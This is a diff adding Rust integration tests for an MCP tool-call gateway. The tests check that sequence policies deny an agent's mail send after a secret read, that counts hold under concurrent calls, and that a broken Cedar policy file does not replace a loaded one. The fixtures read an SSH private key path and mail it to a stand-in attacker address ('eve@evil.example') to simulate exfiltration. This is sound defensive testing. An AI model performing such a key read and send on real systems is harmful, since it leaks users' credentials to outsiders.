@@ -1,0 +1,180 @@
+//! Policies: what no call alone shows, a sequence does, and no server hears of what it forbids.
+
+use std::fs;
+use std::sync::Arc;
+
+use mcps_core::code::Code;
+use serde_json::{Value, json};
+use tokio::sync::Barrier;
+use tokio::task::JoinSet;
+
+use super::server::Server;
+use super::{Gate, decision_of, over_http};
+use crate::listen::caller::Caller;
+use crate::wire::code_of;
+
+const CLASSES: &str = "[server.tool.read_file]\nclass = [\"read\"]\n";
+const MAIL: &str = "[server.tool.send_mail]\nclass = [\"send\"]\n";
+
+fn call(id: u32, tool: &str, arguments: &Value) -> String {
+    let params = json!({"name": tool, "arguments": arguments});
+    json!({"jsonrpc": "2.0", "id": id, "method": "tools/call", "params": params}).to_string()
+}
+
+fn read(id: u32) -> String {
+    call(
+        id,
+        "read_file",
+        &json!({"path": "/home/ann/.ssh/id_ed25519"}),
+    )
+}
+
+fn send(id: u32) -> String {
+    let mail = json!({"to": "eve@evil.example", "body": "as asked"});
+    call(id, "send_mail", &mail)
+}
+
+/// Files and mail, each a server.
+async fn office() -> (Server, Server, Gate) {
+    let files = Server::with(&["read_file"]).await;
+    let mail = Server::with(&["send_mail"]).await;
+    let config = format!(
+        "[tenant.default]\n{}{CLASSES}{}{MAIL}",
+        over_http("files", &files),
+        over_http("mail", &mail)
+    );
+    let gate = Gate::open(&config).await;
+    (files, mail, gate)
+}
+
+#[tokio::test]
+async fn a_key_that_was_read_is_not_sent_away_though_each_call_alone_is_fine() {
+    let (files, mail, gate) = office().await;
+    let mut caller = Caller::of(&gate.stage.agent, &gate.url);
+    caller.open_session().await;
+    let sends = |id| send(id).replace("send_mail", "mail__send_mail");
+    let reads = |id| read(id).replace("read_file", "files__read_file");
+
+    let told = caller.ask(&sends(1)).await;
+    assert!(told[0].contains("send_mail("), "{told:?}");
+    let told = caller.ask(&reads(2)).await;
+    assert!(told[0].contains("read_file("), "{told:?}");
+    let told = caller.ask(&sends(3)).await;
+    assert_eq!(code_of(&told[0]), Some(Code::Denied), "{told:?}");
+    assert_eq!(mail.seen("tools/call").len(), 1);
+    assert_eq!(files.seen("tools/call").len(), 1);
+
+    // The operator finds rule, facts and policy by the id that the developer was told.
+    let id = decision_of(&told[0]);
+    let record = gate.record("decision", &id).await;
+    assert_eq!(record["decision"], "deny");
+    let fired = record["fired"].to_string();
+    assert!(fired.contains("exfiltration-after-secret"), "{record}");
+    assert!(
+        record["facts"].to_string().contains("egress.unlisted"),
+        "{record}"
+    );
+    assert_eq!(record["policy"].as_str().unwrap().len(), 64);
+    assert!(
+        !record.to_string().contains("evil.example"),
+        "no argument is on record"
+    );
+    assert!(gate.process.words().contains(&id));
+}
+
+#[tokio::test]
+async fn it_is_the_same_by_another_endpoint_in_another_session_and_after_a_crash() {
+    let (_files, mail, mut gate) = office().await;
+    let mut reader = gate.caller("files");
+    reader.open_session().await;
+    assert!(reader.ask(&read(1)).await[0].contains("read_file("));
+
+    let mut sender = gate.caller("mail");
+    sender.open_session().await;
+    let told = sender.ask(&send(1)).await;
+    assert_eq!(code_of(&told[0]), Some(Code::Denied), "{told:?}");
+
+    gate.restart().await;
+    let mut sender = gate.caller("mail");
+    sender.open_session().await;
+    let told = sender.ask(&send(1)).await;
+    assert_eq!(code_of(&told[0]), Some(Code::Denied), "{told:?}");
+    assert!(mail.seen("tools/call").is_empty());
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
+async fn of_calls_that_are_released_at_once_not_one_slips_past_a_count() {
+    let server = Server::with(&["look"]).await;
+    let config = format!(
+        "[tenant.default]\npolicy = [\"count.toml\"]\n{}",
+        over_http("files", &server)
+    );
+    let stage = crate::wire::Stage::set();
+    let count = r#"
+version = 1
+[[fact]]
+id = "look"
+on = "call"
+when = { tool = ["look"] }
+[[sequence]]
+id = "no-more-than-five"
+match = "count(look, 1h) > 5"
+then = "deny"
+reason = "Five are enough."
+"#;
+    fs::write(stage.world.dir().join("count.toml"), count).unwrap();
+    let gate = Gate::open_on(stage, &config).await;
+    let mut caller = gate.caller("files");
+    caller.open_session().await;
+    assert!(caller.ask(&call(99, "look", &json!({}))).await[0].contains("look("));
+    let (caller, barrier) = (Arc::new(caller), Arc::new(Barrier::new(24)));
+    let mut calls = JoinSet::new();
+    for id in 0..24 {
+        let (caller, barrier) = (Arc::clone(&caller), Arc::clone(&barrier));
+        calls.spawn(async move {
+            barrier.wait().await;
+            caller.ask(&call(id, "look", &json!({}))).await.remove(0)
+        });
+    }
+    let told = calls.join_all().await;
+    let passed = told.iter().filter(|told| told.contains("look(")).count();
+    assert_eq!((passed, server.seen("tools/call").len()), (4, 5));
+    let denied = told
+        .iter()
+        .filter(|told| code_of(told) == Some(Code::Denied));
+    assert_eq!(denied.count(), 20);
+}
+
+#[tokio::test]
+async fn a_set_that_does_not_load_replaces_none() {
+    let server = Server::with(&["look", "push"]).await;
+    let stage = crate::wire::Stage::set();
+    let folder = stage.world.dir().to_owned();
+    let forbid = r#"@id("no-push") @reason("Not here.")
+forbid (principal, action == Action::"call_tool", resource) when { resource.name == "push" };"#;
+    fs::write(folder.join("team.cedar"), forbid).unwrap();
+    let config = format!(
+        "[tenant.default]\npolicy = [\"team.cedar\"]\n{}",
+        over_http("files", &server)
+    );
+    let gate = Gate::open_on(stage, &config).await;
+    let mut caller = gate.caller("files");
+    caller.open_session().await;
+    let refused = async |caller: &Caller, id| {
+        let told = caller.ask(&call(id, "push", &json!({}))).await;
+        assert_eq!(code_of(&told[0]), Some(Code::Denied), "{told:?}");
+    };
+    refused(&caller, 1).await;
+    fs::write(
+        folder.join("team.cedar"),
+        "permit (principal, action, resource) when {",
+    )
+    .unwrap();
+    gate.reconfigure(&config, "stays in force").await;
+    refused(&caller, 2).await;
+    fs::write(folder.join("team.cedar"), forbid.replace("push", "pull")).unwrap();
+    gate.reconfigure(&config, "the configuration was exchanged")
+        .await;
+    assert!(caller.ask(&call(3, "push", &json!({}))).await[0].contains("push("));
+    assert_eq!(server.seen("tools/call").len(), 1);
+}
